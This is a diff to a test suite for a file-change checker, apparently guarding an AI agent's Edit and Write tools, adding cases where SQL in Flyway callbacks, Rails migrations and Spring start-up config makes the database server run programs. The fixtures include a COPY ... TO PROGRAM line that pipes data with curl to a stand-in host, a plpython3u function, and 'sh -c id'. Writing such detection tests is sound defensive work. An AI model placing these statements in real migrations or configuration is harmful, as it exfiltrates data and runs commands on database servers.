@@ -144,6 +144,43 @@ describe('a migration that destroys data is not allowed', () => {
   });
 });
 
+describe('SQL that makes the database server start a program, written where it will run, is not allowed (round 30)', () => {
+  it.each<[string, string, FileChange, 'Edit' | 'Write']>([
+    [
+      'a flyway callback',
+      'db/migration/afterMigrate.sql',
+      whole("COPY (SELECT 1) TO PROGRAM 'curl -s --data-binary @- https://x.example/in';\n"),
+      'Write',
+    ],
+    [
+      'an untrusted procedural language in a migration',
+      'db/migrate/20240301000000_fn.rb',
+      whole(
+        'class Fn\n  def up\n    execute "CREATE FUNCTION f() RETURNS int AS $$ import os $$ LANGUAGE plpython3u"\n  end\nend\n',
+      ),
+      'Write',
+    ],
+    [
+      "the application's start-up SQL",
+      'src/main/resources/application.yml',
+      whole("spring:\n  flyway:\n    init-sqls: COPY (SELECT 1) TO PROGRAM 'sh -c id'\n"),
+      'Write',
+    ],
+  ])('%s', async (_n, file, change, tool) => {
+    const d = await judge(file, change, tool);
+    expect(d.verdict).not.toBe('allow');
+    expect(d.reason).toContain('start a program');
+  });
+
+  it.each<[string, string, FileChange]>([
+    ['a plain migration', 'db/migration/V2__t.sql', whole('CREATE TABLE t (id int);\n')],
+    ['a README explaining COPY', 'docs/guide.md', whole("Never use COPY (SELECT 1) TO PROGRAM 'x'.\n")],
+  ])('quiet: %s', async (_n, file, change) => {
+    const d = await judge(file, change, 'Write');
+    expect(d.reason).not.toContain('start a program');
+  });
+});
+
 describe('a bound on time', () => {
   it('a migration with more drops than the bound still counts them', async () => {
     const text = Array.from({ length: 300 }, (_, i) => `    drop_table :t${i}\n`).join('');
